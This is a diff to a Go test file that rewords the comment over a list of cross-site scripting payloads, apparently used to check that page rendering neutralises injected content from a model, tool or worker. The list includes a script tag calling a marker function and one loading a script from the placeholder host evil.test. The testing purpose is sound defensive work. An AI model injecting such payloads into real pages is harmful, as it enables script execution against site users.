@@ -1,8 +1,7 @@
 package page_test
 
-// payloads are what somebody who wants to run a script, load something or change the
-// page would have the model, a tool or a worker say. Each that can calls mark(), or
-// fetches from evil.test.
+// payloads are attempts, by way of the model, a tool or a worker, to run a script, load
+// something or change the page. They call mark() or fetch from evil.test.
 var payloads = []string{
 	`<script>mark()</script>`,
 	`<script src=http://evil.test/x.js></script>`,
